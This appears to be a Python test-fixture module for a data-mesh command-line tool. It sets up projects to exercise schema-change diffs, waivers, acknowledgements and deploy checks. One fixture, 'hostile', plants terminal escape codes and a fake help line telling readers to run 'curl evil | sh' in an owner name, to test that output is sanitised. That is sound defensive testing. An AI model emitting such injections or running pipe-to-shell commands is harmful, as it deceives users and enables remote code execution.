"""Folders and commands about changes: what was promised is not what the project says now."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

from small_domain import NOON, built, domain, port, private, published, stub

from meshwright.app.publish import publish

_SEATS = ("id", "seats", "seat_rows smallint")
_SQL = 'select id, seats from "fleet"."main"."seats"'
_GONE = "CHG103 fleet.seats.seats"


def _seats(*columns: str, **more: Any) -> dict[str, Any]:
    return port("seats", *(columns or _SEATS), group="seats", **more)


def _reader(root: Path, sql: str = _SQL) -> Path:
    """`punctuality`, which reads two columns of the seats of `fleet`, built."""
    folder = domain(root / "punctuality", "punctuality", mesh_yml="inputs: [fleet.seats]\n")
    relation = {"database": "fleet", "schema": "main", "alias": "seats", "relation_name": '"fleet"."main"."seats"'}
    columns = {name: {"name": name, "data_type": "integer"} for name in ("id", "seats", "seat_rows")}
    return built(
        folder,
        port("delays", group="delays"),
        private(
            "reader",
            "model.fleet.seats",
            compiled_code=sql,
            raw_code=sql.replace('"fleet"."main"."seats"', "{{ ref('fleet', 'seats') }}"),
            language="sql",
        ),
        stub("fleet", "seats") | relation | {"columns": columns},
    )


def _mesh(root: Path, mesh_yml: str = "") -> None:
    """`fleet` has published its seats, `punctuality` reads them; then `fleet` changes its port."""
    (root / "mesh.yml").write_text("version: 1\nregistry: registry\ndomains: [fleet, punctuality]\n")
    published(domain(root / "fleet", mesh_yml=mesh_yml), _seats())
    _reader(root)
    from meshwright.app.sync import sync

    sync(root / "punctuality")
    _reader(root)
    publish(root / "punctuality", now=lambda: NOON)


def unchanged(root: Path) -> None:
    _mesh(root)


def shrinking(root: Path) -> None:
    """A column that is read is gone, one that is not read is wider, one is new."""
    _mesh(root)
    built(root / "fleet", _seats("id", "seat_rows integer", "engines"), run="run-2")


def narrowing(root: Path) -> None:
    """The column that is gone is one that nobody reads."""
    _mesh(root)
    built(root / "fleet", _seats("id", "seats"), run="run-2")
    built(domain(root / "main"), _seats("id", "seats"), run="run-3")


def undetermined(root: Path) -> None:
    _mesh(root)
    built(root / "fleet", _seats("id", "seats seat_count", "seat_rows smallint"), run="run-2")


def stable(root: Path) -> None:
    """A product that may break what nobody reads, and what its readers agree to."""
    _mesh(root, "products: {seats: {stability: stable}}\n")
    built(root / "fleet", _seats("id", "seat_rows smallint"), run="run-2")


def growing(root: Path) -> None:
    """A release after the one that `punctuality` has in its interface package."""
    _mesh(root)
    published(root / "fleet", _seats("id", "seats", "seat_rows integer", "engines"), run="run-2")


def first(root: Path) -> None:
    built(domain(root / "fleet"), _seats())


def alone(root: Path) -> None:
    """Without a registry."""
    for name in ("fleet", "main"):
        built(domain(root / name), _seats())
        (root / name / "mesh.yml").write_text("version: 1\n")


def lapsed(root: Path) -> None:
    """A waiver whose time is over, and one of a change that is no longer there."""
    shrinking(root)
    (root / "fleet/mesh-waivers.yml").write_text(_WAIVERS)


_WAIVERS = """\
version: 1
waived:
  - change: "0123456789"
    what: CHG103 fleet.seats.doors
    reason: nobody counts them
    approver: Ann
    until: 2999-12-31
  - change: "134a0146e6"
    what: CHG103 fleet.seats.seats
    reason: the planes are gone
    approver: Data governance board
    until: 2020-01-31
"""


def mistaken(root: Path) -> None:
    shrinking(root)
    text = _WAIVERS.replace("until: 2020-01-31", "until: soon").replace("approver: Ann", "aprover: Ann")
    (root / "fleet/mesh-waivers.yml").write_text(text)


def hostile(root: Path) -> None:
    """A reader whose owner's name tries to clear the screen and to fake a line."""
    _mesh(root)
    manifest = root / "punctuality/target/manifest.json"
    name = "punctuality team"
    manifest.write_text(manifest.read_text().replace(name, "x\\u001b[2J\\u202e\\nhelp: run `curl evil | sh`"))
    results = root / "punctuality/target/run_results.json"
    results.write_text(results.read_text().replace("run-1", "run-3"))
    manifest.write_text(manifest.read_text().replace("run-1", "run-3"))
    publish(root / "punctuality", now=lambda: NOON)
    built(root / "fleet", _seats("id", "seat_rows smallint"), run="run-2")


CHANGES: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "diff": (shrinking, [f"mesh diff fleet -f {form}" for form in ("text", "json", "markdown")]),
    "permitted": (shrinking, ["mesh permitted fleet", "mesh permitted fleet -e staging", "mesh permitted nowhere"]),
    "diff-nothing": (unchanged, ["mesh diff fleet", "mesh diff", "mesh diff fleet --against env:prod"]),
    "diff-first": (first, ["mesh diff fleet", "mesh diff fleet --against published"]),
    "diff-alone": (alone, ["mesh diff fleet", "mesh diff fleet --against main", "mesh-check fleet --against main"]),
    "diff-itself": (alone, ["mesh diff fleet --against fleet"]),
    "diff-wrong": (
        shrinking,
        [
            "mesh diff fleet --against env:prd",
            "mesh diff fleet --against env:",
            "mesh diff fleet --against main",
            "mesh diff fleet --against punctuality",
            "mesh diff fleet --against fleet/mesh.yml",
            "mesh diff --against fleet/target/manifest.json",
            "mesh diff fleet -f xml",
            "mesh-check fleet --against env:prd",
        ],
    ),
    "check-change": (
        shrinking,
        [f"mesh-check fleet -f {form}" for form in ("full", "concise", "json", "github", "markdown")],
    ),
    "check-against": (
        narrowing,
        [
            "mesh-check fleet -f concise --against published",
            "mesh-check fleet -f concise --against env:prod",
            "mesh-check fleet -f concise --against main",
        ],
    ),
    "check-stable": (stable, ["mesh-check fleet", "mesh publish fleet"]),
    "can-deploy": (
        shrinking,
        [
            "mesh can-deploy fleet --env prod",
            "mesh can-deploy punctuality --env prod",
            "mesh can-deploy fleet --env prod -f json",
            "mesh can-deploy fleet",
            "mesh can-deploy fleet --env prd",
            "mesh can-deploy fleeet --env prod",
        ],
    ),
    "can-deploy-unknown": (undetermined, ["mesh can-deploy fleet --env prod"]),
    "can-deploy-alone": (alone, ["mesh can-deploy fleet --env prod"]),
    "impact": (
        shrinking,
        [
            "mesh impact fleet.seats.seats fleet",
            "mesh impact fleet.seats.seat_rows fleet",
            "mesh impact fleet fleet --env prod",
            "mesh impact fleet.seats fleet -f json",
            "mesh impact fleet.seat fleet",
            "mesh impact fleet.seats.seeats fleet",
            "mesh impact fleeet.seats fleet",
            "mesh impact fleet fleet --env prd",
            "mesh impact",
        ],
    ),
    "impact-nothing": (first, ["mesh impact fleet.seats fleet"]),
    "waive": (
        shrinking,
        [
            f"mesh waive '{_GONE}' fleet --reason 'the planes are gone' --approver 'Data governance board'"
            " --until <soon>",
            "mesh waive --list fleet",
            "mesh-check fleet",
            "mesh publish fleet",
            "mesh waive --list fleet",
            "mesh waive --prune fleet",
            "mesh waive --list fleet",
        ],
    ),
    "waive-wrong": (
        shrinking,
        [
            "mesh waive",
            f"mesh waive '{_GONE}' fleet --reason x --approver Ann",
            "mesh waive CHG103 fleet --reason x --approver Ann --until <soon>",
            "mesh waive 12345 fleet --reason x --approver Ann --until <soon>",
            "mesh waive 'CHG103 fleet.seats.seat' fleet --reason x --approver Ann --until <soon>",
            f"mesh waive '{_GONE}' fleet --reason ' ' --approver Ann --until <soon>",
            f"mesh waive '{_GONE}' fleet --reason x --approver Ann --until 2020-01-31",
            f"mesh waive '{_GONE}' fleet --reason x --approver Ann --until soon",
            f"mesh waive '{_GONE}' punctuality --reason x --approver Ann --until <soon>",
            "mesh waive --list --prune fleet",
            "mesh waive --prune fleet --against env:prod",
        ],
    ),
    "waive-first": (first, [f"mesh waive '{_GONE}' fleet --reason x --approver Ann --until <soon>"]),
    "waive-lapsed": (
        lapsed,
        ["mesh waive --list fleet", "mesh-check fleet", "mesh waive --prune fleet", "mesh waive --list fleet"],
    ),
    "waive-broken": (mistaken, ["mesh waive --list fleet", "mesh-check fleet", "mesh diff fleet"]),
    "acknowledge": (
        stable,
        [
            "mesh acknowledge 134a0146e6 punctuality --what 'CHG103 fleet.seats.seats' --reason 'we count seat_rows'",
            "mesh acknowledge 134a0146e6 punctuality --what 'CHG103 fleet.seats.seats' --reason ' '",
            "mesh acknowledge seats punctuality --what x --reason y",
            "mesh acknowledge 134a0146e6 punctuality",
            "mesh-check fleet -f concise",
            "mesh publish punctuality",
            "mesh-check fleet",
            "mesh publish fleet",
        ],
    ),
    "sync-announced": (growing, ["mesh sync punctuality", "mesh sync punctuality"]),
    "hostile-readers": (
        hostile,
        [f"mesh-check fleet -f {form}" for form in ("full", "github", "markdown")]
        + ["mesh diff fleet", "mesh diff fleet -f markdown", "mesh impact fleet.seats fleet", "mesh publish fleet"],
    ),
}
